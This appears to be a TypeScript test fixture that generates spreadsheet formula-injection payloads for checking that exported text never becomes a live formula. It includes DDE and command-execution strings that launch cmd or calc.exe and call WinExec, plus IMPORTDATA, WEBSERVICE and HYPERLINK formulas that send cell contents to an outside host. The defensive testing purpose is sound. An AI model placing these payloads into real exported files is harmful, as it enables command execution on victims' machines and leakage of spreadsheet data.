/** What makes a spreadsheet or an office program take a text for a formula. */
const triggers = ['=', '+', '-', '@', "'=", '＝', '＋', '−', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u200b=']

/** What a live formula could do: compute, fetch, leak, run. */
const functions = [
  '1+1',
  'SUM(1;1)',
  'СУММ(1;1)',
  'A1',
  'HYPERLINK("https://example.org/?"&A1;"ваша анкета")',
  'ГИПЕРССЫЛКА("https://example.org/?"&A1;"открыть")',
  'IMAGE("https://example.org/"&A2)',
  'IMPORTXML("https://example.org/?"&A1;"//a")',
  'IMPORTDATA("https://example.org/?"&CONCATENATE(A1:Z99))',
  'IMPORTRANGE("1AbC";"Наставляемые!A1:Z")',
  'IMPORTHTML("https://example.org";"table";1)',
  'IMPORTFEED("https://example.org/feed")',
  'WEBSERVICE("https://example.org/?"&A1)',
  'QUERY(A1:Z;"select *")',
  'INDIRECT("Наставляемые!A1")',
  'ДВССЫЛ("Журнал!A1")',
  'GOOGLETRANSLATE(A1;"ru";"en")',
  'ARRAYFORMULA(A1:A99)',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'EXEC("calc.exe")',
  'CALL("kernel32";"WinExec";"JFJ";0;0;0)',
  'REGISTER.ID("kernel32";"WinExec")',
  'LAMBDA(x;x)(1)',
  'IFERROR(1/0;IMPORTXML("https://example.org";"//a"))',
  'NOW()',
]

/** How a payload is dressed, so that a look at the first sign alone would miss it or break it. */
const wrappers: readonly ((payload: string) => string)[] = [
  payload => payload,
  payload => `${payload}\n${payload}`,
]

/** Further payloads that no product of the parts gives. */
const further = [
  '=',
  '+',
  '-',
  '@',
  '==1+1',
  '=+1+1',
  '-1+1',
  '+7 900 111-22-33',
  '-5 °C на улице',
  '- не знаю',
  '@lisin_artem',
  '=)',
  '=(',
  '";=1+1;"',
  '"=1+1"',
  "'",
  "''=1+1",
  '=1+1\u0000',
  '\u0000=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '=ТИП(1)',
  '={1\\2\\3}',
  '#REF!',
  '#ССЫЛКА!',
  '=#REF!',
  'TRUE',
  'ИСТИНА',
  '1E5',
  '00123',
  '1/2',
  '12.05',
  '3-4',
  '12:30',
  '50%',
  '1 234,56',
  '{=1+1}',
  '=IF(A1="";"";IMPORTDATA("https://example.org"))',
]

/** Texts that must never become live: triggers × functions × wrappers, and some more. */
export const formulaPayloads: readonly string[] = [
  ...new Set([
    ...triggers.flatMap(trigger =>
      functions.flatMap(body => wrappers.map(wrap => wrap(`${trigger}${body}`))),
    ),
    ...further,
  ]),
]
